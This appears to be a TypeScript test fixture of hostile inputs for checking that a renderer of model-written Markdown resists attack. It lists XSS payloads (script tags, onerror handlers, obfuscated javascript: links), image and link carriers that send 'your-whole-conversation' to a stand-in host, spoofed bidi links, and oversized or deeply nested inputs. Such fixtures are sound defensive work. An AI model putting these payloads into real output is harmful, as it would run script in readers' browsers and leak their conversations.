/** What a model may write to harm its reader. Every address in it has the word `hostile`, and every script sets `hostileRan`. */

const RUN = "window.hostileRan=1";
const AT = "http://hostile.example/leak?words=";

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src="${AT}script"></script>`,
  `<img src="${AT}image" onerror="${RUN}">`,
  `<img src=/console/hostile.png onerror=${RUN}>`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<iframe src="${AT}frame" srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="${AT}object"></object>`,
  `<embed src="${AT}embed">`,
  `<form action="${AT}form"><input name="password" autofocus onfocus="${RUN}"><button>Sign in</button></form>`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video src="${AT}video" onloadstart="${RUN}" autoplay></video>`,
  `<math><mtext><style><img src="${AT}style" onerror="${RUN}"></style></mtext></math>`,
  `<style>@import "${AT}import"; body{background:url(${AT}background)}</style>`,
  `<link rel="stylesheet" href="${AT}link">`,
  `<meta http-equiv="refresh" content="0;url=${AT}refresh">`,
  `<base href="${AT}base">`,
  `<template><script>${RUN}</script></template>`,
  `<a href="javascript:${RUN}" onclick="${RUN}" style="position:fixed;inset:0">x</a>`,
  `<input type="image" src="${AT}input" onclick="${RUN}">`,
  `<!--><img src="${AT}comment" onerror="${RUN}">-->`,
];

/** Where an element may stand. */
const PLACES: ReadonlyArray<(text: string) => string> = [
  (text) => text,
  (text) => `- one\n- ${text}\n- three`,
  (text) => `| a | b |\n|---|---|\n| ${text.replaceAll("|", "")} | two |`,
  (text) => `> ${text}\n> > ${text}`,
  (text) => `## ${text}`,
  (text) => `[${text}](https://hostile.example "title ${text.replaceAll('"', "'")}")`,
  (text) => `**${text}** and \`${text}\``,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  "file:///etc/hostile",
  "blob:http://hostile.example/1",
  "//hostile.example/scheme",
  "/api/auth/hostile",
  "https://bank.example@hostile.example/",
];
const LINKS: ReadonlyArray<(address: string) => string> = [
  (address) => `[a link](${address})`,
  (address) => `![a picture](${address})`,
  (address) => `<${address}>`,
  (address) => `[a reference][r]\n\n[r]: ${address}`,
];

const SECRETS = "your-whole-conversation-".repeat(20);
const CARRIERS = [
  `![](${AT}${SECRETS})`,
  `[![inside](${AT}${SECRETS})](${AT}${SECRETS})`,
  `${AT}${SECRETS}`,
  `[click](https://${"secret.".repeat(12)}hostile.example/)`,
  `[mail](mailto:hostile@hostile.example?body=${SECRETS})`,
  `$\\href{javascript:${RUN}}{x}$ $\\url{${AT}formula}$ $\\includegraphics{${AT}formula}$`,
  `$\\htmlData{onclick=${RUN}}{x}$ $\\htmlStyle{background:url(${AT}x)}{x}$`,
  "[bank.example\u202emoc.elpmaxe.elitsoh](https://hostile.example) \u2066isolated \u202dover",
  "controls \u0000\u0007\u0008\u001b[31m\u007f\u0085\ufeff\u200b\u2028\u2029 \ud800 end",
  `e${"\u0301".repeat(2_000)}`,
];

/** About 220 texts that are small. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...ELEMENTS.flatMap((text) => PLACES.map((place) => place(text))),
  ...ADDRESSES.flatMap((address) => LINKS.map((link) => link(address))),
  ...CARRIERS,
];

const DEEP = 10_000;

/** Texts whose shape or size is the attack, by name. */
export const HOSTILE_SHAPES: Readonly<Record<string, string>> = {
  "nested lists": Array.from({ length: 1_500 }, (_, depth) => `${" ".repeat(depth * 2)}- x`).join(
    "\n",
  ),
  "lists on one line": "- ".repeat(DEEP),
  "nested quotes": `${">".repeat(DEEP)} x`,
  "opening brackets": "[".repeat(DEEP),
  "nested links": `${"[".repeat(DEEP)}x${"](y)".repeat(DEEP)}`,
  "pictures in pictures": "![".repeat(DEEP),
  stars: "*a".repeat(DEEP),
  "stars and lines": "*_".repeat(DEEP),
  ticks: Array.from({ length: 400 }, (_, count) => "`".repeat(count + 1)).join(" x "),
  angles: "<".repeat(DEEP),
  "half an element": "<a href='".repeat(DEEP),
  dollars: "$a".repeat(DEEP),
  "a formula of braces": `$${"{".repeat(4_000)}x${"}".repeat(4_000)}$`,
  macros:
    "$\\def\\a{\\a\\a}\\a$\n\n$\\def\\b{xxxxxxxxxx}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b}\\c\\c\\c\\c$",
  "a table of 2,000 columns": `|${"a|".repeat(2_000)}\n|${"-|".repeat(2_000)}\n|${"b|".repeat(2_000)}`,
  "a table of 4,000 rows": `| a | b |\n|---|---|\n${"| one | two |\n".repeat(4_000)}`,
  "broken tables": `| a |\n|--\n| b | c | d\n|\n||\n|-|-|-|\n${"|".repeat(500)}`.repeat(20),
  definitions: Array.from(
    { length: 5_000 },
    (_, index) => `[r${index}]: http://hostile.example/${index}`,
  ).join("\n"),
  "100,000 paragraphs": "x\n\n".repeat(100_000),
  "empty lines": "\n".repeat(500_000),
  "a line of 5 MB": "word ".repeat(1_048_576),
  "a word of 1 MB": "w".repeat(1_048_576),
  "code of 5 MB on a line": `\`\`\`js\n${"{[(".repeat(1_750_000)}`,
  "code of 100,000 lines": `\`\`\`js\n${"x = 1;\n".repeat(100_000)}`,
  "a list of 20,000 items": "- x\n".repeat(20_000),
  "500 tables": "| a | b |\n|---|---|\n| one | two |\n\n".repeat(500),
  "2,000 formulas": "$\\frac{x^2}{y}$ and ".repeat(2_000),
  fences: "```\n".repeat(4_000),
};
